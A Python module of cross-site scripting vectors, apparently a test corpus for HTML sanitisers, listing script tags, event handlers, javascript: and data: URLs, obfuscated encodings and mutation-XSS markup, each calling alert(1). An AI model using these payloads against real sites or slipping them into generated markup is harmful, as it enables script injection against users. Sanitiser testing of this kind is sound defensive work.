"""Ways to make a page run a script, as they are used against sanitisers; each calls `alert(1)`.

Kinds: elements and attributes that run by themselves, every handler of events, addresses that run, markup that changes
its meaning when it is parsed a second time (mutation XSS), foreign elements, styles, frames, and markup that is broken.
"""

from __future__ import annotations

from typing import Final

RUNNING: Final = """
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=data:text/javascript,alert(1)></script>
<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>
<script type=module>alert(1)</script>
<script type=module src=data:text/javascript,alert(1)></script>
<script async src=data:text/javascript,alert(1)></script>
<script defer src=data:text/javascript,alert(1)></script>
<script nomodule>alert(1)</script><script>alert(1)</script>
<script/x>alert(1)</script>
<script	>alert(1)</script>
<script
>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>/*</script><script>*/alert(1)</script>
<script><!--
alert(1)
--></script>
<script>alert&lpar;1&rpar;</script>
<svg><script>alert(1)</script></svg>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><script href=data:text/javascript,alert(1) /></svg>
<svg><script xlink:href=data:text/javascript,alert(1)></script></svg>
<svg><script>//&NewLine;alert(1)</script></svg>
<svg><![CDATA[><script>alert(1)</script>]]></svg>
<math><script>alert(1)</script></math>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;&#x6c;ert(1)>
<img src=x onerror="&#0000097lert(1)">
<img src=x onerror=\\u0061lert(1)>
<img src=x onerror=alert&lpar;1&rpar;>
<img src=x onerror=alert`1`>
<img src=x onerror=(alert)(1)>
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=top.alert(1)>
<img src=x onerror=eval('al'+'ert(1)')>
<img src=x onerror=setTimeout('alert(1)')>
<img src=x onerror=Function('alert(1)')()>
<img src=x onerror=import('data:text/javascript,alert(1)')>
<img/src=x/onerror=alert(1)>
<img	src=x	onerror=alert(1)>
<img
src=x
onerror=alert(1)>
<img src=x:x onerror
=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img ""\"><script>alert(1)</script>">
<img src=# onerror=alert(1) alt="
<img src=x onerror=alert(1)//
<image src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<svg><image href=x onerror=alert(1)></svg>
<svg onload=alert(1)>
<svg onload=alert(1)></svg>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><svg onload=alert(1)>
<svg><g onload=alert(1)></g></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><animateTransform onbegin=alert(1) attributeName=transform dur=1s></svg>
<svg><animateMotion onbegin=alert(1) dur=1s></svg>
<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>
<svg><discard onbegin=alert(1)></svg>
<svg><style onload=alert(1)></style></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><a><rect onclick=alert(1) width=99 height=99></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x"></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
<math><semantics><annotation-xml encoding=application/xhtml+xml><img src=x onerror=alert(1)></annotation-xml></semantics></math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onfocus=alert(1) autofocus tabindex=0>
<body onscroll=alert(1)><br><br><br><p style=height:9999px><p id=x autofocus>
<body background=javascript:alert(1)>
<html onload=alert(1)>
<html onmouseover=alert(1)>
<frameset onload=alert(1)>
<frameset><frame src=javascript:alert(1)></frameset>
<iframe onload=alert(1)></iframe>
<iframe src=javascript:alert(1)></iframe>
<iframe src="java&Tab;script:alert(1)"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe srcdoc="<svg onload=alert(1)>"></iframe>
<iframe><noscript></iframe><img src=x onerror=alert(1)>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object onerror=alert(1) data=x></object>
<embed src=javascript:alert(1)>
<embed src="data:text/html,<script>alert(1)</script>">
<embed code=data:text/html,<script>alert(1)</script>>
<applet code=javascript:alert(1)></applet>
<portal src=javascript:alert(1)></portal>
<link rel=stylesheet href=x onerror=alert(1)>
<link rel=stylesheet href=data:text/css, onload=alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=modulepreload href=data:text/javascript,alert(1) onload=alert(1)>
<style onload=alert(1)></style>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url(javascript:alert(1))}</style>
<style>*{behavior:url(#default#time2)}</style><p onbegin=alert(1)>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)></p>
<style>@keyframes x{from{left:0}to{left:9px}}</style><p style="animation:x 1ms" onanimationend=alert(1)></p>
<p style="width:expression(alert(1))"></p>
<p style="background:url('javascript:alert(1)')"></p>
<p style="-moz-binding:url(data:text/xml,alert(1))"></p>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=set-cookie content="x=<script>alert(1)</script>">
<base href=javascript:alert(1)//><a href=#>x</a>
<base href="data:text/javascript,alert(1)//"><script src=x></script>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<button onfocus=alert(1) autofocus>x</button>
<keygen onfocus=alert(1) autofocus>
<p tabindex=1 onfocus=alert(1) autofocus>x</p>
<a tabindex=1 onfocus=alert(1) autofocus>x</a>
<p contenteditable onfocus=alert(1) autofocus>x</p>
<xss onfocus=alert(1) autofocus tabindex=1>x</xss>
<x-ferry onfocus=alert(1) autofocus tabindex=1>x</x-ferry>
<input type=image src=x onerror=alert(1)>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<p oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>x</p>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<audio><source src=x onerror=alert(1)></audio>
<video onloadstart=alert(1) src=data:video/mp4,></video>
<video><track default onerror=alert(1) src=x></video>
<details open ontoggle=alert(1)><summary>x</summary></details>
<details ontoggle=alert(1) open>x</details>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<marquee behavior=alternate onbounce=alert(1)>x</marquee>
<table background=javascript:alert(1)><tr><td>x</td></tr></table>
<bgsound src=javascript:alert(1)>
<isindex type=image src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<p><template shadowrootmode=open><script>alert(1)</script></template></p>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<!--><img src=x onerror=alert(1)>-->
<!--><script>alert(1)</script>
<!---><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--<img title="--><img src=x onerror=alert(1)>">-->
<!><img src=x onerror=alert(1)>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?><img src=x onerror=alert(1)>
</><img src=x onerror=alert(1)>
</p x="><img src=x onerror=alert(1)>">
<![CDATA[<img src=x onerror=alert(1)>]]>
<%<img src=x onerror=alert(1)>
<<img src=x onerror=alert(1)>
<p "><img src=x onerror=alert(1)>
<p title="`><img src=x onerror=alert(1)>
<a title='"><img src=x onerror=alert(1)>
<img alt="<x" src=x onerror=alert(1)>
<img alt="</p><script>alert(1)</script>">
<p title="</p><script>alert(1)</script>">x</p>
<p title="--><script>alert(1)</script>">x</p>
<a href="https://example.org/?<script>alert(1)</script>">x</a>
<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">x</a>
<a href='https://example.org/"onfocus="alert(1)" autofocus="'>x</a>
<img src='https://example.org/"onerror="alert(1)'>
<img alt='" onerror="alert(1)' src=x>
<img alt="&quot; onerror=&quot;alert(1)" src=x>
<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src=x>
&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
<pre>&lt;img src=x onerror=alert(1)&gt;</pre>
<code>&lt;svg onload=alert(1)&gt;</code>
<pre><code class='" onload="alert(1)'>x</code></pre>
<pre class="language-js&quot;><script>alert(1)</script>">x</pre>
<ol start='"><script>alert(1)</script>'><li>x</ol>
<td colspan='"><script>alert(1)</script>'>x</td>
<table><td><img src=x onerror=alert(1)></table>
<p lang='"><script>alert(1)</script>'>x</p>
<p dir='"><script>alert(1)</script>'>x</p>
<p id='"><script>alert(1)</script>'>x</p>
<abbr title='"><script>alert(1)</script>'>x</abbr>
<time datetime='"><script>alert(1)</script>'>x</time>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite='"><script>alert(1)</script>'>x</q>
<math><mi>"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</mi></math>
<script type="math/tex">\\href{javascript:alert(1)}{x}</script>
<script type="math/tex"></script><script>alert(1)</script>
<script type="application/ld+json">{"headline":"</script><script>alert(1)</script>"}</script>
<script type="application/ld+json">{"@type":"Article","headline":"<img src=x onerror=alert(1)>"}</script>
"""

ADDRESSES: Final = """
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
&#1;javascript:alert(1)
&#32;javascript:alert(1)
java&#9;script:alert(1)
java&#10;script:alert(1)
java&#13;script:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
javascript&#x3a;alert(1)
&#106;avascript:alert(1)
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)
javascript://%0aalert(1)
javascript://example.org/%0aalert(1)
javascript:/*https://example.org/*/alert(1)
javascript:void(alert(1))
javascript:'<script>alert(1)</script>'
javascript:%61lert(1)
javascript:javascript:alert(1)
jav&#x0A;ascript:alert(1)
&#xFEFF;javascript:alert(1)
x:javascript:alert(1)
//javascript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>
vbscript:alert(1)
view-source:javascript:alert(1)
blob:javascript:alert(1)
"""
"""Addresses that run, or look so."""

HOLDERS: Final = (
    '<a href="{}">the late ferry</a>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
)
BY_ADDRESS: Final = (
    '<area href="{}">',
    '<button formaction="{}">x</button>',
    '<img src="{}">',
    '<math href="{}">x</math>',
    '<math><maction actiontype="statusline" xlink:href="{}">x</maction></math>',
    '<svg><animate attributeName=href values="{}"></svg>',
    '<svg><a><set attributeName=href to="{}"></set><text y=20>x</text></a></svg>',
    '<input type=submit formaction="{}">',
    '<a ping="{}" href="#">x</a>',
    '<img srcset="{} 1x">',
)

EVENTS: Final = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect blur cancel canplay canplaythrough change
click close command contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave
dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata fullscreenchange
fullscreenerror gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata
loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave
pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend
search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled storage submit
suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun
transitionstart unload volumechange waiting webkitanimationend webkittransitionend wheel
""".split()  # noqa: SIM905  a table of words reads better

MUTATIONS: Final = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><p><style><img src=x onerror=alert(1)></style></p></math>
<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<noscript><style></noscript><img src=x onerror=alert(1)>
<select><style></select><img src=x onerror=alert(1)></style>
<table><caption><svg><caption><style><img src=x onerror=alert(1)></style>
<a><svg><a><style><img src=x onerror=alert(1)></style></a></svg></a>
<p><svg><desc><p><style><img src=x onerror=alert(1)></style></desc></svg>
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<xmp><svg><b><p title='</xmp><img src=x onerror=alert(1)>'>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<svg><foreignObject><style><p title="</style><img src=x onerror=alert(1)>"></foreignObject></svg>
<math><mi><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></math>
"""


def list_vectors() -> list[str]:
    """All vectors, each once."""
    lines: list[str] = []
    for line in RUNNING.strip("\n").split("\n"):
        if lines and not line.startswith(("<", "&")):
            lines[-1] += f"\n{line}"  # goes on
        else:
            lines.append(line)
    addresses = ADDRESSES.strip("\n").split("\n")
    lines += [holder.format(address) for address in addresses for holder in HOLDERS[: 1 if "&" in address else 3]]
    lines += [holder.format("javascript:alert(1)") for holder in BY_ADDRESS]
    lines += [f"<b on{event}=alert(1) tabindex=0>the ferry is late</b>" for event in EVENTS]
    lines += MUTATIONS.strip().split("\n")
    return list(dict.fromkeys(lines))
